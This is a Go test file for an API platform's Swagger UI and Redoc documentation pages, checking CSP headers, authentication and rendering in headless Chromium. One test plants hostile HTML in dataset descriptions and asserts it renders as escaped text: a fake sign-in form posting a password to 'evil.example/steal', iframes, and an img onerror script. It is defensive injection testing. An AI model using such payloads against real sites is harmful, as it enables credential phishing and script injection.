package tests

import (
	"context"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"
)

// chromiumDOM opens url in headless Chromium (Debian's package, installed by
// scripts/ensure-chromium.sh) and answers the page's DOM once its scripts have run, and what
// the browser logged (CSP refusals among it).
func chromiumDOM(t *testing.T, url string) (dom, log string) {
	t.Helper()
	bin, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("chromium is not installed: run scripts/ensure-chromium.sh (go tool task test does): %v", err)
	}
	// A guard against a browser that hangs, not a time limit: Redoc takes a minute and more to
	// lay out the platform's description on two busy cores while the other packages run.
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
		"--user-data-dir="+t.TempDir(), "--enable-logging=stderr", "--v=0", "--virtual-time-budget=20000", "--dump-dom", url)
	var out, errb strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium %s: %v\n%s", url, err, errb.String())
	}
	return out.String(), errb.String()
}

// TestDocsPages: Swagger UI and Redoc, for a dataset and for the platform, render their
// operations in a real browser, with nothing loaded from elsewhere and no CSP refusal.
func TestDocsPages(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	own := bearer(e.ownerToken)
	id := e.customers()
	key := e.do("POST", "/api/v1/api-keys", map[string]any{"name": "docs", "permissions": []string{"datasets:list"}}, own).status(201).str("key")

	page := e.do("GET", "/api/v1/datasets/"+id+"/docs?api_key="+key, nil).status(200)
	csp := page.Header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "script-src 'self' 'nonce-") || strings.Contains(csp, "unsafe") || strings.Contains(csp, "http") ||
		!strings.Contains(string(page.Body), "validatorUrl: null") || strings.Contains(string(page.Body), "https://") {
		t.Fatalf("docs page: %s\n%s", csp, page.Body[:min(len(page.Body), 800)])
	}
	a := e.do("GET", "/api/v1/docs/assets/swagger-ui-bundle.js", nil).status(200)
	if len(a.Body) < 100000 || !strings.HasPrefix(a.Header.Get("Content-Type"), "text/javascript") && !strings.HasPrefix(a.Header.Get("Content-Type"), "application/javascript") {
		t.Fatalf("asset: %d bytes, %s", len(a.Body), a.Header.Get("Content-Type"))
	}
	e.do("GET", "/api/v1/docs/assets/nope.js", nil).apiError(404, "NOT_FOUND")
	e.do("GET", "/api/v1/datasets/"+id+"/docs", nil).authError(401, "AUTH_REQUIRED")

	for _, tc := range []struct{ path, want string }{
		{"/api/v1/datasets/" + id + "/docs?api_key=" + key, "listCustomers"},
		{"/api/v1/datasets/" + id + "/redoc?api_key=" + key, "List customers"},
		{"/api/v1/docs", "listProjects"},
		{"/api/v1/redoc", "Projects of an organization"},
	} {
		dom, log := chromiumDOM(t, e.ts.URL+tc.path)
		if !strings.Contains(dom, tc.want) {
			t.Errorf("%s does not show %q:\n%.2000s\n%s", tc.path, tc.want, dom, log)
		}
		if strings.Contains(log, "Content Security Policy") || strings.Contains(log, "Refused to") {
			t.Errorf("%s: the browser refused something:\n%s", tc.path, log)
		}
	}
}

// TestDocsPagesShowDescriptionHTMLAsText: HTML in a dataset's description and in a column's
// (Markdown fields) shows as text on both documentation pages: no form, iframe or image with
// an onerror handler becomes an element.
func TestDocsPagesShowDescriptionHTMLAsText(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	html := `Hi <form action="//evil.example/steal"><input name="password"><button>Sign in</button></form> ` +
		`<iframe src="/api/v1/docs"></iframe> <img src=x onerror="document.title='pwned'"> ` +
		"and `a <b>code</b> span` **bold**\n\n<div><iframe src=\"/api/v1/redoc\"></iframe></div>\n"
	schema := map[string]any{"columns": []any{
		map[string]any{"name": "name", "type": "text", "description": "Name. " + html},
	}}
	id := e.uploadAndCreateWith(e.ownerToken, "Pages", "p.csv", "name\nAnn\n", map[string]any{"schema": schema, "description": html})
	if d := e.waitDataset(e.ownerToken, id); d.str("status") != "active" {
		t.Fatalf("dataset: %s", d.Body)
	}
	key := e.do("POST", "/api/v1/api-keys", map[string]any{"name": "docs", "permissions": []string{"datasets:list"}}, bearer(e.ownerToken)).status(201).str("key")
	// The pages' own controls are buttons and inputs, but never forms, frames or handlers.
	live := regexp.MustCompile(`(?i)<(form|iframe)\b|<img[^>]*\bonerror|<input[^>]*name="password"`)
	for _, page := range []string{"docs", "redoc"} {
		dom, log := chromiumDOM(t, e.ts.URL+"/api/v1/datasets/"+id+"/"+page+"?api_key="+key)
		if m := live.FindAllString(dom, -1); len(m) > 0 {
			t.Errorf("%s renders description HTML as elements %q", page, m)
		}
		// The description is there, as text, with its Markdown rendered.
		if !strings.Contains(dom, "&lt;iframe src=") || !strings.Contains(dom, "<strong>bold</strong>") || !strings.Contains(dom, "a &lt;b&gt;code&lt;/b&gt; span") {
			t.Errorf("%s does not show the description as text:\n%.3000s\n%s", page, dom, log)
		}
	}
}
